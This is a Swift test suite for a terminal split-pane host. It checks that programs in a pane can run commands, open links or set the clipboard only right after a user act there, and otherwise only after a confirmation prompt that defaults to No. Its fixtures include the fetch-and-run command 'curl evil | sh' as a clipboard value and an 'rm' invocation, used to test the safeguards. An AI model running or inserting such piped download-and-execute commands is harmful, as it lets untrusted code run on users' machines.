// SPDX-License-Identifier: Apache-2.0
import HostCore
import HostTestSupport
import SplitLayout
import TerminalInput
import Testing

/// Programs, links and the clipboard: unasked only right after an act of the user in the pane.
@Suite struct ActingOutsideTests {
  private let run =
    #"{"id":9,"method":"program.run","params":{"argv":["rm","a b"],"cwd":"/x y","screen":false}}"#
  private let open = #"{"id":8,"method":"link.open","params":{"url":"https://example.org"}}"#
  private let copy = #"{"text":"curl evil | sh"}"#

  private func hasRun(_ host: ScriptedHost) -> Bool { host.orders.contains("run 1 rm a b") }

  @Test("a program is run within a second of a key in the pane, and asked about later")
  func key() {
    let host = ScriptedHost.double()
    host.keys("down")
    host.advance(1_000)
    host.say(.primary, run)
    #expect(hasRun(host) && host.sheet.isEmpty)
    host.forgetOrders()
    host.advance(1)
    host.say(.primary, run)
    #expect(!host.orders.contains { $0.hasPrefix("run") })
    #expect(host.sheet.first == "places wants to run, unasked")
  }

  @Test(
    "a key in one pane is no act in another, and what that one wants is asked about all the same")
  func elsewhere() {
    let host = ScriptedHost.double()
    host.keys("down")
    host.say(.secondary, run)
    #expect(!hasRun(host))
    #expect(host.sheet.isEmpty, "no question catches what is being typed")
    host.advance(500)
    #expect(host.sheet.first == "preview wants to run, unasked")
    #expect(host.state.focus == .primary)
  }

  @Test("a click in a pane is an act in it, on a row that can be dragged as well")
  func click() {
    for more in ["", #","drag":true"#] {
      let host = ScriptedHost.double()
      host.set(
        .primary, #"{"content":{"kind":"list","items":[{"id":"a","text":"a"\#(more)}]}}"#)
      host.keys("tab")
      host.advance(2_000)
      host.click(4, 2)
      host.say(.primary, open)
      #expect(host.orders.contains("open https://example.org"), "\(more)")
    }
  }

  @Test("one No is the answer to all that a program wished for at that time")
  func refusedTogether() {
    let host = ScriptedHost.double()
    host.advance(5_000)
    host.say(.primary, run)
    host.say(.primary, open)
    host.forget()
    host.keys("esc")
    host.advance(5_000)
    #expect(host.sheet.isEmpty && !host.orders.contains { $0.hasPrefix("open") })
    #expect(host.sent(.primary).count { $0.contains("-32812") } == 2)
  }

  @Test("the wheel is no act, nor is a press elsewhere")
  func wheel() {
    let host = ScriptedHost.double()
    host.mouse(.wheelDown, 90, 5)
    host.click(4, 5)
    host.say(.secondary, open)
    #expect(!host.orders.contains("open https://example.org"))
  }

  @Test("otherwise the exact words are asked about, and No is the answer to begin with")
  func asked() {
    for (answer, isAllowed) in [("y", true), ("enter", false), ("esc", false), ("n", false)] {
      let host = ScriptedHost.double()
      host.advance(5_000)
      host.say(.primary, run)
      #expect(host.picture.contains("rm 'a b'") && host.picture.contains("in '/x y'"))
      #expect(host.sheet == ["places wants to run, unasked", "No", "Run"])
      host.forget()
      host.keys(answer)
      #expect(hasRun(host) == isAllowed, "\(answer)")
      #expect(host.sent(.primary).contains { $0.contains("-32812") } == !isAllowed, "\(answer)")
      #expect(host.sheet.isEmpty)
    }
  }

  @Test("characters that are not shown as they are stand in the question by their numbers")
  func invisible() {
    let host = ScriptedHost.double()
    host.advance(5_000)
    host.say(
      .primary,
      #"{"id":1,"method":"program.run","params":{"argv":["sh","-c","a\u202eb\u001b'\n"]}}"#)
    #expect(host.picture.contains(#"sh -c $'a\U0000202eb\U0000001b\'\n'"#))
  }

  @Test("what is too long to be read is refused and not asked about")
  func long() {
    let host = ScriptedHost.double()
    host.advance(5_000)
    let word = String(repeating: "x", count: 500)
    host.say(.primary, #"{"id":1,"method":"program.run","params":{"argv":["\#(word)"]}}"#)
    #expect(host.sheet.isEmpty)
    #expect(host.sent(.primary).last?.contains("-32812") == true)
    #expect(
      host.orders.last?.hasPrefix("log left out, the user has not asked for xxx") == true)
  }

  @Test("who has said no is not asked again before acting in the pane; the log tells of it")
  func refused() {
    let host = ScriptedHost.double()
    host.advance(5_000)
    host.say(.primary, run)
    host.keys("n")
    host.advance(5_000)
    host.say(.primary, run)
    host.advance(5_000)
    #expect(host.sheet.isEmpty && !hasRun(host))
    #expect(host.orders.filter { $0.contains("the user has not asked for rm 'a b'") }.count == 2)
    host.keys("down")
    host.advance(5_000)
    host.say(.primary, run)
    #expect(host.sheet.first == "places wants to run, unasked")
  }

  @Test("the answer to a question is no act for what the program wants next")
  func nextWish() {
    let host = ScriptedHost.double()
    host.advance(5_000)
    host.say(.primary, run)
    host.keys("y")
    host.forgetOrders()
    host.say(.primary, open)
    #expect(!host.orders.contains { $0.hasPrefix("open") })
  }

  @Test("a question goes with its program, and when it is taken back")
  func gone() {
    for ending in ["cancel", "exit"] {
      let host = ScriptedHost.double()
      host.advance(5_000)
      host.say(.primary, run)
      #expect(!host.sheet.isEmpty)
      if ending == "exit" { host.exit(.primary, status: 1) }
      if ending == "cancel" { host.notify(.primary, "$.cancel", #"{"id":9}"#) }
      #expect(host.sheet.isEmpty, "\(ending)")
    }
  }

  @Test("a command chosen in a menu is an act in its pane")
  func menu() {
    let host = ScriptedHost.double()
    host.set(.primary, #"{"commands":[{"id":"a","title":"Alpha","menu":["item"]}]}"#)
    host.keys(".")
    host.advance(5_000)
    host.keys("enter")
    host.say(.primary, run)
    #expect(hasRun(host))
  }

  @Test("a program on another machine is always asked about")
  func remote() {
    var settings = HostSettings.double
    settings.columns[0].spec.arguments = ["ssh", "build1", "colonnade-files"]
    let host = ScriptedHost(settings)
    host.start()
    host.hello(.primary)
    host.set(.primary, ScriptedHost.list("a"))
    host.keys("down")
    host.say(.primary, run)
    #expect(!hasRun(host))
    host.advance(500)
    #expect(host.sheet.first == "places wants to run, unasked")
  }

  @Test("the clipboard is refused without an act, with a sentence in the log")
  func clipboard() {
    let host = ScriptedHost.double()
    host.advance(5_000)
    host.notify(.primary, "clipboard.set", copy)
    #expect(!host.orders.contains { $0.hasPrefix("copy") })
    #expect(
      host.orders.contains { $0.hasPrefix("log left out, clipboard.set without a key") })
    host.keys("down")
    host.notify(.primary, "clipboard.set", copy)
    #expect(host.orders.contains("copy curl evil | sh"))
  }
}
